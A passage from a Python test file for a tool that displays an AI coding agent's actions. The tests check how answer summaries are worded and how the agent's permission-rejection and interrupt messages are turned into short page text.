    assert home_short("/home/adam/x.md", env) == "/home/adam/x.md"  # another user's folder
    assert home_short("relative/x.md", env) == "relative/x.md"


def test_an_answer_summary_names_questions_by_their_headers() -> None:
    """Issue 42, point 10: "Answered (Which color should the banner use? = Blue; …)" read
    long where the card names each question by its header."""
    from plan_widgets.agent.decisions import QuestionDecision
    from plan_widgets.render.outcomes import outcome_parts

    qs = [{"question": "Which color should the banner use?", "header": "Color",
           "multiSelect": False, "options": [{"label": "Blue", "description": ""}]},
          {"question": "Anything else?", "multiSelect": False,
           "options": [{"label": "No", "description": ""}]}]
    async def answered() -> Any:
        d = QuestionDecision(qs)
        d.answer({"Color": "Blue", "Anything else?": "No"}, notes={"Color": "the logo's"})
        return d.outcome

    outcome = asyncio.run(answered())
    assert outcome is not None
    text, extra = outcome_parts(outcome)
    assert text == "Answered"
    assert extra == ["Color = Blue; Anything else? = No", "note on Color: the logo's"]


@pytest.mark.parametrize(("for_the_model", "on_the_page"), [
    ("The user doesn't want to proceed with this tool use. The tool use was rejected (eg. if it "
     "was a file edit, the new_string was NOT written to the file). STOP what you are doing and "
     "wait for the user to tell you how to proceed.", "not run: you stopped the turn"),
    ("No answer came from the user within 3 s; the request was not granted. Stop and wait for "
     "the user.", "not allowed: no answer came within 3 s"),
    ("<tool_use_error>Plan mode is on: nothing may change before the user approves a plan. Do "
     "not write, edit or run anything except the plan file.</tool_use_error>",
     "refused: plan mode is on, so nothing changes before you approve a plan"),
    ("The user interrupted; the request was not granted.", "not allowed: you interrupted"),
    ("/w/a.ipynb is the notebook open in Jupyter right now. Do not write its file: the frontend",
     "refused: this notebook is open in Jupyter; the agent was asked to propose a cell instead"),
    ("File does not exist.", "File does not exist."),  # a tool's own error: as it is
])
def test_a_tool_line_says_in_the_pages_words_what_was_written_for_the_model(
        for_the_model: str, on_the_page: str) -> None:
    """Issue 42, point 5: after an interrupt a tool line read "✗ The user doesn't want to
    proceed with this tool use. The tool use was rejected (eg. if it was a file edit, …"."""
    from plan_widgets.render.agents import error_state

    assert error_state(for_the_model) == f" ✗ {on_the_page}"


def test_every_text_for_the_model_in_the_docs_table_has_its_page_words() -> None:
    """docs/cli.md#words-for-the-model lists what each text reads as; the table and the code
    say the same."""
    from pathlib import Path

    from plan_widgets.render.cli_words import PAGE_WORDS

    doc = (Path(__file__).parent.parent / "docs" / "cli.md").read_text()
    table = doc.split("(words-for-the-model)=", 1)[1]
    for _, said in PAGE_WORDS:
        assert f"| {said.format('N')} |" in table, said
